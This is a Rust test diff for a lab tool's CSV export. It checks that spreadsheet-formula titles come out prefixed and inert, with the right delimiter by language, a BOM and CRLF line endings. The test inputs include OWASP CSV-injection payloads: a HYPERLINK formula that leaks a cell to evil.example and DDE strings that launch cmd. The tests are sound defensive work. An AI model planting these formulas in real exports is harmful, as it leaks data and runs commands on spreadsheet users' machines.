@@ -303,3 +303,106 @@ fn control_characters_in_answers_leave_a_well_formed_word_file() {
         }
     }
 }
+
+/// Titles a spreadsheet would run as formulas (OWASP's examples) and what the cell must say.
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+fn formula_lab() -> Lab {
+    let lab = Lab::new().env("LABKIT_FACILITATOR", "@SUM(A1:A9)");
+    lab.write("labkit.yaml", "lab: LabX\n");
+    lab.write(
+        "methods/formulas.yaml",
+        "schema: 1\nid: formulas\nname: \"=1+1 Formulas\"\nsummary: A title that is a formula.\nstage: experiment\nduration: 20m\nsteps:\n  - id: one\n    title: One\n    questions:\n      - id: test_name\n        type: text\n        prompt: Name\n",
+    );
+    for (i, title) in FORMULAS.iter().enumerate() {
+        let answers = format!("test_name: {}\n", serde_json::to_string(title).unwrap());
+        lab.write(&format!("answers-{i}.yaml"), answers);
+        lab.run(&[
+            "run",
+            "formulas",
+            "--answers",
+            &format!("answers-{i}.yaml"),
+            "--session",
+            &format!("sessions/s{i}.yaml"),
+        ])
+        .ok();
+    }
+    lab
+}
+
+/// The CSV's rows as a `csv` reader with this delimiter reads them, header first.
+fn read_csv(text: &str, delimiter: u8) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .delimiter(delimiter)
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+#[track_caller]
+fn assert_inert_cells(rows: &[Vec<String>]) {
+    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let (title, name, facilitator) = (column("title"), column("name"), column("facilitator"));
+    let mut titles: Vec<&str> = rows[1..].iter().map(|r| r[title].as_str()).collect();
+    titles.sort();
+    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
+    expected.sort();
+    assert_eq!(titles, expected, "each formula is text, and reads as typed");
+    for row in &rows[1..] {
+        assert_eq!(row[name], "'=1+1 Formulas");
+        assert_eq!(row[facilitator], "'@SUM(A1:A9)");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run"
+            );
+        }
+    }
+}
+
+#[test]
+fn portfolio_csv_cells_cannot_run_as_formulas() {
+    let lab = formula_lab();
+    let plain = lab.run(&["portfolio", "--format", "csv"]).ok().stdout;
+    assert!(plain.starts_with("file,method,"), "plain CSV has no BOM");
+    let rows = read_csv(&plain, b',');
+    assert_eq!(rows.len(), FORMULAS.len() + 1);
+    assert_inert_cells(&rows);
+}
+
+#[test]
+fn portfolio_csv_for_a_spreadsheet_follows_the_language() {
+    let lab = formula_lab();
+    for (lang, delimiter) in [("pt", b';'), ("en", b',')] {
+        let out = lab
+            .run(&["--lang", lang, "portfolio", "--format", "csv", "--excel"])
+            .ok()
+            .stdout;
+        let text = out
+            .strip_prefix('\u{FEFF}')
+            .unwrap_or_else(|| panic!("{lang}: no UTF-8 BOM: {out:?}"));
+        assert!(
+            text.starts_with(&format!("file{}method", delimiter as char)),
+            "{lang}: {text:?}"
+        );
+        let ends: Vec<&str> = text.split_inclusive('\n').collect();
+        assert!(
+            ends.iter().all(|l| l.ends_with("\r\n")),
+            "{lang}: every record ends in CRLF: {text:?}"
+        );
+        let rows = read_csv(text, delimiter);
+        assert_eq!(rows.len(), FORMULAS.len() + 1, "{lang}: {rows:?}");
+        assert_inert_cells(&rows);
+    }
+    let wrong = lab.run(&["portfolio", "--excel"]).code(2);
+    assert!(wrong.stderr.contains("--format csv"), "{}", wrong.stderr);
+}
